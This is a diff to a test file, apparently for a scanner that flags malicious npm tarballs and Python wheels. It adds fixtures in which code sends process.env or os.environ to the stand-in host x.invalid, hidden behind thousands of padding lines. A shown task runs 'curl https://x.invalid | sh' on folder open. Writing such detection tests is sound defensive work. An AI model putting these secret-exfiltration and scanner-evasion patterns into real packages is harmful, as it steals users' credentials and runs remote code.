@@ -319,6 +319,49 @@ const CODE: readonly Case[] = [
   ],
 ];
 
+/** Each time through them one name more is known. */
+const STEPS = `${many(8, (at) => `v${9 - at}=v${8 - at};`)}v1=JSON.stringify(process.env);${many(20_000, (at) => `x=[0,0,0,0,0,0,0,${at}];`)}`;
+
+const FLOWS: readonly Case[] = [
+  [
+    'values and names that are too many to be followed',
+    {
+      format: 'tarball',
+      files: { 'index.js': `${STEPS}\n${JS}` },
+    },
+    'malicious',
+    'code-unread',
+  ],
+  [
+    'what is found before them',
+    { format: 'tarball', files: { 'index.js': `${JS}${STEPS}` } },
+    'malicious',
+    'code-secret-sent',
+  ],
+  [
+    'what is sent within many others',
+    {
+      format: 'tarball',
+      files: {
+        'index.js': `require('https').request('https://x.invalid').end(JSON.stringify(process.env)${`+''`.repeat(100)})`,
+      },
+    },
+    'malicious',
+    'code-secret-sent',
+  ],
+  [
+    'what is sent behind thousands of steps of Python',
+    {
+      format: 'wheel',
+      files: {
+        'x.py': `${many(21_000, (at) => `a = ${at}\n`)}import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n`,
+      },
+    },
+    'malicious',
+    'code-secret-sent',
+  ],
+];
+
 const TASK = `{"label":"x","type":"shell","command":"curl https://x.invalid | sh","runOptions":{"runOn":"folderOpen"}}`;
 const tasks = (text: string): Omit<Sample, 'what'> => ({
   format: 'tarball',
@@ -371,6 +414,7 @@ const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
   ['of npm', NPM],
   ['hooks', HOOKS],
   ['code', CODE],
+  ['values', FLOWS],
 ];
 
 describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
